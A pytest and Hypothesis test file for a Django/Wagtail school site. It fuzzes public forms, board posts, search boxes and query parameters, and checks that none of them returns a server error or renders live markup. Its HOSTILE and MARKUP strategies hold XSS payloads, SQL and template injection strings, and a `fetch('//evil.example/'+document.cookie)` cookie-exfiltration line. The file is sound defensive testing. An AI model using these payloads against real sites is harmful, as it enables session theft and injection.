"""Random and hostile text thrown at every public form: never a 500, never live markup or a script link in the output.

Covered: the enquiry form, event sign-up, board post (with its link field), board comment and report, the site
search box and the board's search and school filters. What is posted to the board is also checked on the public
pages once approved. Hypothesis draws random unicode (control characters, NUL, RTL overrides, long strings) and
generated markup (tags with event handlers, `javascript:`/`data:`/`vbscript:` URLs in every attribute that
takes a URL). Each property runs a bounded number of examples.

Rate limits are raised here: the cache is cleared per test function, not per Hypothesis example, so dozens of
examples from one client address would otherwise be refused (429) after the fifth and test nothing. The limits
themselves are tested in each app's own tests.
"""

import functools
import re
import struct
import zlib
from datetime import timedelta

import pytest
from bs4 import BeautifulSoup
from django.utils import timezone
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from wagtail.images import get_image_model

from board.models import BoardPost
from tests.factories import make_board, make_listed_school, make_post, make_school_directory, post_data, upload

pytestmark = pytest.mark.slow(40)

HOSTILE = st.sampled_from(
    [
        "<script>alert(1)</script>",
        '"><img src=x onerror=alert(1)>',
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " \tjavascript:alert(1)",
        "java\nscript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "vbscript:msgbox(1)",
        'https://example.org/"><script>alert(1)</script>',
        "https://example.org/?q=<svg/onload=alert(1)>",
        "{{ settings.SECRET_KEY }}",
        "{% debug %}",
        "\u202e\u0000\ufeff",
        "\u202egnp.exe",
        "a\x00b",
        "\x1b[31m\x07\x08",
        "' OR 1=1 --",
        "مرحبا بكم في مدرستنا",
        "x" * 5000,
    ]
)
SCHEMES = st.sampled_from(["javascript:", "JAVASCRIPT:", " javascript:", "data:text/html,", "vbscript:"])
MARKUP = st.builds(
    lambda tag, attr, scheme, payload: f'<{tag} {attr}="{scheme}{payload}">{payload}</{tag}>',
    st.sampled_from(["script", "img", "a", "svg", "iframe", "body", "form", "object", "math"]),
    st.sampled_from(["onerror", "onload", "onmouseover", "href", "src", "action", "formaction", "xlink:href"]),
    SCHEMES,
    st.sampled_from(["alert(1)", "alert(document.cookie)", "fetch('//evil.example/'+document.cookie)"]),
)
TEXT = st.one_of(HOSTILE, MARKUP, st.text(max_size=300))
# Most of these fit the fields' length limits, so many posts are accepted and then checked on the public pages.
SHORT_TEXT = st.one_of(
    HOSTILE.filter(lambda text: len(text) <= 80),
    MARKUP.filter(lambda text: len(text) <= 80),
    st.text(min_size=1, max_size=80),
)
URLISH = st.one_of(
    HOSTILE,
    MARKUP,
    st.builds(lambda scheme, rest: scheme + rest, SCHEMES, st.text(max_size=40)),
    st.builds(lambda rest: "https://example.org/" + rest, st.text(max_size=60)),
)
EXAMPLES = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])

_URL_ATTRIBUTES = ("href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcset")
_DANGEROUS_SCHEMES = ("javascript:", "data:", "vbscript:")


def assert_inert(html):
    """No inline script, no event-handler attribute, no javascript:/data:/vbscript: URL anywhere in the page."""
    soup = BeautifulSoup(html, "html.parser")
    assert [script for script in soup.find_all("script") if not script.get("src")] == []
    for tag in soup.find_all(True):
        assert not [attr for attr in tag.attrs if attr.lower().startswith("on")], tag
        for attr in _URL_ATTRIBUTES:
            # Browsers ignore whitespace and control characters in a URL's scheme: so must the check.
            value = re.sub(r"[\x00-\x20\x7f]", "", str(tag.get(attr, ""))).lower()
            assert not value.startswith(_DANGEROUS_SCHEMES), tag


def assert_not_raw(html, *values):
    """Markup someone typed never reaches the page as markup (only escaped, as text)."""
    for value in values:
        for tag in re.findall(r"<[a-zA-Z!][^<>]*>?", value or ""):  # opening tags: closing ones are harmless
            if len(tag) >= 6:
                assert tag not in html, tag


@pytest.fixture
def high_limits(settings):
    settings.PUBLIC_FORM_RATE_LIMIT = 100_000
    settings.BOARD_POST_RATE_LIMIT = 100_000
    settings.BOARD_POSTS_PER_BOARD_LIMIT = 100_000
    settings.BOARD_REPORTS_TO_HIDE = 100_000  # else the third report hides the post and the rest get a 404
    return settings


# --- the enquiry form ---------------------------------------------------------------------------------------


@EXAMPLES
@given(name=TEXT, email=TEXT, school=TEXT, message=TEXT)
def test_enquiry_form_survives_any_text(client, demo_home, high_limits, name, email, school, message):
    response = client.post(
        "/contact/",
        {
            "your_name": name,
            "work_email_address": email,
            "school_or_setting": school,
            "what_is_your_enquiry_about": "Resources",
            "your_message": message,
        },
        follow=True,  # an accepted enquiry goes on to the thank-you page
    )
    assert response.status_code == 200
    html = response.content.decode()
    assert_inert(html)
    assert_not_raw(html, name, email, school, message)
    assert "test-only-secret-key" not in html


# --- event sign-up ------------------------------------------------------------------------------------------


@pytest.fixture
def event(demo_home):
    from events.models import EventIndexPage, EventPage

    index = EventIndexPage(title="Events", slug="events")
    demo_home.add_child(instance=index)
    start = (timezone.now() + timedelta(days=10)).replace(second=0, microsecond=0)
    page = EventPage(
        title="Hostile input event",
        slug="hostile-input-event",
        summary="An event.",
        start=start,
        end=start + timedelta(hours=1),
        event_format=EventPage.Format.ONLINE,
        joining_link="https://teams.example.org/join/x",
        capacity=3,
    )
    index.add_child(instance=page)
    page.save_revision().publish()
    return EventPage.objects.get(pk=page.pk)


@EXAMPLES
@given(name=TEXT, email=st.one_of(TEXT, st.emails()), school=TEXT, role=TEXT, access_needs=TEXT)
def test_event_signup_survives_any_text(client, event, high_limits, name, email, school, role, access_needs):
    data = {"name": name, "email": email, "school": school, "role": role, "access_needs": access_needs}
    response = client.post(event.url + "register/", {**data, "consent": "on"}, follow=True)
    assert response.status_code in (200, 409)
    html = response.content.decode()
    assert_inert(html)
    assert_not_raw(html, *data.values())


# --- the community board ------------------------------------------------------------------------------------


@pytest.fixture
def open_board(demo_home):
    """Anyone may post and posts appear at once: what is posted is on the public pages straight away."""
    return make_board(
        demo_home,
        slug="hostile-board",
        title="Hostile board",
        posting_mode="anyone",
        posting_code="",
        requires_approval=False,
        comments_enabled=True,
    )


@EXAMPLES
@given(
    title=SHORT_TEXT,
    message=TEXT.filter(lambda text: len(text) <= 2000),
    link=st.one_of(st.just(""), URLISH),
    image_alt=TEXT,
    display_name=SHORT_TEXT,
    school=SHORT_TEXT,
    email=st.one_of(st.just(""), st.emails()),  # hostile email addresses: see the enquiry and sign-up tests
)
def test_board_post_survives_any_text_and_shows_it_inert_once_approved(
    client, open_board, high_limits, title, message, link, image_alt, display_name, school, email
):
    fields = {
        "title": title,
        "message": message,
        "link": link,
        "image_alt": image_alt,
        "display_name": display_name,
        "school": school,
        "email": email,
    }
    data = {"section": open_board.sections.get(slug="learn").pk, "website_url": "", **fields}
    before = BoardPost.objects.count()
    response = client.post(open_board.url + "post/", data)
    assert response.status_code in (200, 302)
    pages = [response.content.decode()]
    if response.status_code == 302:
        post = BoardPost.objects.latest("pk")
        assert BoardPost.objects.count() == before + 1
        assert post.status == BoardPost.Status.APPROVED and not post.link.lower().startswith(_DANGEROUS_SCHEMES)
        for url in (f"{open_board.url}posts/{post.pk}/", open_board.url, open_board.url + "print/"):
            page = client.get(url)
            assert page.status_code == 200, url
            pages.append(page.content.decode())
    for html in pages:
        assert_inert(html)
        assert_not_raw(html, *fields.values())


@EXAMPLES
@given(link=URLISH)
def test_board_link_field_accepts_only_web_addresses_and_shows_them_inert(client, open_board, high_limits, link):
    data = {
        "section": open_board.sections.get(slug="learn").pk,
        "title": "A link",
        "message": "See the link.",
        "link": link,
        "website_url": "",
    }
    response = client.post(open_board.url + "post/", data)
    assert response.status_code in (200, 302)
    html = response.content.decode()
    if response.status_code == 302:
        post = BoardPost.objects.latest("pk")
        assert post.link.split(":", 1)[0] in ("http", "https")
        html = client.get(f"{open_board.url}posts/{post.pk}/").content.decode()
    assert_inert(html)
    assert_not_raw(html, link)


@pytest.fixture
def public_post(open_board):
    return make_post(open_board, title="A post to comment on and report")


@EXAMPLES
@given(display_name=TEXT, message=TEXT)
def test_board_comment_survives_any_text_and_shows_it_inert(
    client, open_board, public_post, high_limits, display_name, message
):
    response = client.post(
        f"{open_board.url}posts/{public_post.pk}/comment/",
        {"display_name": display_name, "message": message, "website_url": ""},
        follow=True,
    )
    assert response.status_code == 200
    html = response.content.decode()
    assert_inert(html)
    assert_not_raw(html, display_name, message)


@EXAMPLES
@given(reason=TEXT)
def test_board_report_survives_any_text(client, open_board, public_post, high_limits, reason):
    response = client.post(f"{open_board.url}posts/{public_post.pk}/report/", {"reason": reason, "website_url": ""})
    assert response.status_code in (200, 302)
    html = response.content.decode()
    assert_inert(html)
    assert_not_raw(html, reason)


# --- search boxes -------------------------------------------------------------------------------------------


@EXAMPLES
@given(query=TEXT, school=TEXT, page=TEXT)
def test_search_boxes_survive_any_text(client, open_board, public_post, query, school, page):
    for url, params in (
        ("/search/", {"q": query, "page": page}),
        (open_board.url, {"q": query, "school": school, "page": page, "section": school}),
    ):
        response = client.get(url, params)
        assert response.status_code == 200, url
        html = response.content.decode()
        assert_inert(html)
        assert_not_raw(html, query, school)


# --- extreme-shape images (issue 14, item 3) ------------------------------------------------------------------


@functools.cache  # the board and admin tests share each shape
def thin_png(width, height):
    """A white 1-bit PNG of a few KB: within the pixel limit, yet each rendition of it once took 8-18 seconds.

    Written chunk by chunk (rows of one filter byte and the pixels, compressed once), as the PNG specification
    lays it out: Pillow's encoder took ten seconds a shape to write 25 million one-pixel rows."""
    row = b"\x00" + b"\xff" * ((width + 7) // 8)

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)  # 1 bit, greyscale, deflate, no interlace
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(row * height, 9))
        + chunk(b"IEND", b"")
    )


EXTREME_SHAPES = pytest.mark.parametrize(
    "width, height, message",
    [
        (25_000_000, 1, "no more than 10,000 pixels wide or high"),
        (1, 25_000_000, "no more than 10,000 pixels wide or high"),
        (10_001, 10, "no more than 10,000 pixels wide or high"),
        (4_000, 10, "too long and thin"),
    ],
)


@EXTREME_SHAPES
def test_board_form_refuses_extreme_shapes_beside_the_image_field(client, open_board, width, height, message):
    png = thin_png(width, height)
    assert len(png) < 50_000
    data = post_data(open_board, image=upload("thin.png", png, "image/png"), image_alt="A line")
    response = client.post(open_board.url + "post/", data)
    assert response.status_code == 200
    image_error = BeautifulSoup(response.content, "html.parser").find(id="id_image_error")
    assert image_error is not None and message in image_error.get_text(), response.content.decode()[:2000]
    assert BoardPost.objects.count() == 0


@EXTREME_SHAPES
def test_admin_image_uploads_refuse_extreme_shapes(client, admin_user, width, height, message):
    client.force_login(admin_user)
    png = thin_png(width, height)
    multiple = client.post("/admin/images/multiple/add/", {"files[]": upload("thin.png", png, "image/png")})
    assert multiple.status_code == 200
    assert multiple.json()["success"] is False and message in multiple.json()["error_message"]
    single = client.post("/admin/images/add/", {"title": "Thin", "file": upload("thin.png", png, "image/png")})
    assert single.status_code == 200 and message in single.content.decode()
    assert get_image_model().objects.count() == 0


# --- every public query-string parameter ----------------------------------------------------------------------
# NUL bytes (PostgreSQL refuses them in a query), other control characters, overlong values, numbers too big for
# int(), and dates at the ends of the calendar (SQLite overflows converting them to UTC): every parameter of every
# public page answers 200 with the bad value ignored, or 400 with a message, never 500, on SQLite and PostgreSQL.

BAD_VALUES = ["\x00", "learn\x00", "\x01\x1b[31m\x7f\t\r\n", "\u202e\ufeff", "x" * 5000, "9" * 5000, "-1"]
BAD_DATES = [
    "9999-12-31T23:59:59-01:00",
    "9999-12-31T23:59:59",
    "0001-01-01T00:00:00+01:00",
    "0001-01-01T00:00:00",
    "0001-01-01",
    "2024-02-30T10:00",
    "2024-01-01T10:00+25:00",
    "\x00",
    "2024-01-01T10:00\x00",
    "",
    "x" * 5000,
]
LIBRARY_PARAMETERS = ["q", "process", "audience", "type", "language", "tag", "sort", "page"]
BOARD_PARAMETERS = ["q", "school", "section", "page", "deleted", "reported", "posted"]


@pytest.fixture
def public_pages(open_board, public_post):
    """The smallest site with every public page that reads a query string, keyed by what the test calls it."""
    from events.models import EventIndexPage
    from resources.models import ResourceIndexPage, ResourcePage, ResourceType, ensure_vocabularies

    ensure_vocabularies()
    home = open_board.get_parent()
    library = ResourceIndexPage(title="Resource library", slug="resource-library", intro="Find what helps.")
    home.add_child(instance=library)
    resource = ResourcePage(
        title="Welcome guide",
        slug="welcome-guide",
        summary="A guide.",
        external_url="https://example.org/guide",
        resource_type=ResourceType.objects.get_or_create(slug="guide", defaults={"name": "Guide"})[0],
    )
    resource.tags.add("welcome")
    library.add_child(instance=resource)
    events = EventIndexPage(title="Events", slug="events")
    home.add_child(instance=events)
    schools = make_school_directory(home)
    make_listed_school("Canal Basin Primary")
    return {
        "/search/": ["q", "page"],
        library.url: LIBRARY_PARAMETERS,
        library.url + "learn/": LIBRARY_PARAMETERS,
        library.url + "tag/welcome/": LIBRARY_PARAMETERS,
        events.url: ["upcoming", "page"],
        events.url + "webinars/": ["q", "page"],
        open_board.url: BOARD_PARAMETERS,
        open_board.url + "print/": BOARD_PARAMETERS,
        f"{open_board.url}posts/{public_post.pk}/": ["posted", "edited", "commented"],
        f"{open_board.url}posts/{public_post.pk}/like/": ["next"],
        open_board.url + "post/": ["section"],
        "/sitemap.xml": ["p"],
        schools.url: ["q", "status", "phase", "area", "page"],
    }


def _answers(client, url, params):
    response = client.get(url, params)
    return response.status_code, response


@pytest.mark.parametrize("page_index", range(13))
def test_every_public_parameter_survives_nul_control_characters_and_overlong_values(client, public_pages, page_index):
    url, parameters = list(public_pages.items())[page_index]
    failures = []
    for name in parameters:
        for value in BAD_VALUES:
            status, response = _answers(client, url, {name: value})
            if status != 200 and not (url == "/sitemap.xml" and status == 404):
                failures.append((name, value[:20], status))
            elif status == 200 and "html" in response["Content-Type"]:
                assert_inert(response.content.decode())
    # Many values for one parameter at once: bounded, not a 500.
    status, _ = _answers(client, url, {parameters[0]: ["\x00"] * 500})
    if status >= 500:
        failures.append((parameters[0], "500 values", status))
    assert failures == [], url


@pytest.mark.parametrize("since", BAD_DATES)
def test_board_updates_refuse_an_unusable_time_with_a_400_not_a_500(client, open_board, public_post, since):
    response = client.get(open_board.url + "updates/", {"since": since})
    assert response.status_code in (200, 400), since
    if response.status_code == 400:
        assert "since" in response.json()["error"]
    else:
        assert isinstance(response.json()["posts"], list)


def test_board_updates_still_answer_a_usable_time(client, open_board, public_post):
    earlier = (public_post.approved_at - timedelta(minutes=1)).isoformat()
    response = client.get(open_board.url + "updates/", {"since": earlier})
    assert response.status_code == 200
    assert [post["id"] for post in response.json()["posts"]] == [public_post.pk]
